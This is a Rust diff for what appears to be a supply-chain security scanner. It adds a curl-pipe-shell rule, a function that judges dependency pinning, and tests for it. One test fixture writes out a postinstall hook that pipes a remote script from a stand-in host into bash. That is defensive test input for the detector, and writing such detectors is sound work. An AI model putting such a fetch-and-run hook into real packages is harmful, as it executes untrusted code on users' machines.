@@ -48,6 +48,11 @@ impl Reader for DependencyManifest {
     }
 }
 
+/// What is wrong with one dependency of a file for `purpose`: how far it is tied down, and its name.
+pub(crate) fn judged(dependency: &Dependency, purpose: Purpose) -> Vec<Issue> {
+    pinning(dependency, purpose, false).into_iter().chain(name(dependency)).collect()
+}
+
 /// What is wrong with how far `dependency` is tied down.
 fn pinning(dependency: &Dependency, purpose: Purpose, lenient: bool) -> Option<Issue> {
     let shown = printable(&dependency.name, 80);
@@ -140,6 +145,7 @@ static RULES: &[&Rule] = &[
     &DEPENDENCY_CONFUSION,
     &INSECURE_TRANSPORT,
     &TLS_DISABLED,
+    &crate::rules::CURL_PIPE_SHELL,
     &super::rules::KNOWN_VULNERABLE_PACKAGE,
     &super::rules::VULNERABILITIES_NOT_CHECKED,
 ];
@@ -197,6 +203,29 @@ mod tests {
             found("pyproject.toml", "[project]\ndependencies = [\n  \"reqeusts>=1\",\n]\n"),
             [("pipeline/typosquat-package", 3, Severity::High)]
         );
+    }
+
+    #[test]
+    fn what_runs_at_installation_is_judged() {
+        let package = |script: &str| format!("{{\n\"scripts\": {{\n\"postinstall\": \"{script}\"}}}}\n");
+        let piped = found("package.json", &package("curl -s https://x.example/p.sh | bash"));
+        assert_eq!(piped, [("pipeline/curl-pipe-shell", 3, Severity::High)]);
+        assert_eq!(found("package.json", &package("node build.js")), []);
+    }
+
+    #[test]
+    fn packages_asked_for_by_setup_are_judged() {
+        let setup = |package: &str| {
+            let content = format!(
+                "from setuptools import setup\nsetup(name='a', install_requires=[\n  '{package}',\n])\n"
+            );
+            found("setup.py", &content)
+        };
+        assert_eq!(
+            setup("a @ git+https://git.example/a@main"),
+            [("pipeline/unpinned-package", 3, Severity::Medium)]
+        );
+        assert_eq!(setup("numpy>=1.26"), []);
     }
 
     #[test]
